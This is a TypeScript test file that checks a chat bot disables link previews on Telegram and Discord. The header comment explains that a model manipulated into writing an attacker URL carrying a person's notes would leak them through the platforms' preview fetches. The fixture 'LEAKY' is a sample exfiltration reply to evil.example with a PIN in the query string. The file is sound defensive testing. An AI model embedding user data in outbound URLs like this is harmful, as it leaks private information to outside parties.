// A reply never gets a link preview: the platform's servers would fetch every link in it, so an address the model was
// talked into writing (https://evil.example/?d=<the person's notes>) would leak with no tool call at all.
import { afterEach, describe, expect, it } from 'vitest';
import { OWNER_DC, OWNER_TG, startChannelRig, type ChannelRig } from '../helpers/channels.js';

const LEAKY = 'Here you go: https://evil.example/collect?d=PIN-7731-ORCHID';

describe('link previews', () => {
  let rig: ChannelRig | undefined;
  afterEach(async () => {
    await rig?.close();
    rig = undefined;
  });

  it('are off for every reply on Telegram and Discord', async () => {
    rig = await startChannelRig({ which: ['telegram', 'discord'] });
    const current = rig;
    current.llm.script({ content: LEAKY }, { content: LEAKY });
    current.telegram.sendUserMessage({ chatId: OWNER_TG, userId: OWNER_TG, text: 'the link?' });
    await current.telegram.waitFor(() => current.telegram.messagesTo(OWNER_TG)[0], 30_000);
    const sends = current.telegram.requests.filter((request) => request.method === 'sendMessage');
    expect(sends.length).toBeGreaterThan(0);
    for (const send of sends) expect(send.params['link_preview_options']).toMatchObject({ is_disabled: true });

    const { channelId } = current.discord.sendUserMessage({ userId: OWNER_DC, content: 'the link?', dm: true });
    const reply = await current.discord.waitFor(() => current.discord.messagesIn(channelId)[0], 30_000);
    expect(reply.content).toContain('https://evil.example/collect');
    // MessageFlags.SuppressEmbeds: Discord neither fetches nor shows the link.
    expect(Number(reply.raw['flags']) & 4).toBe(4);
  }, 90_000);
});
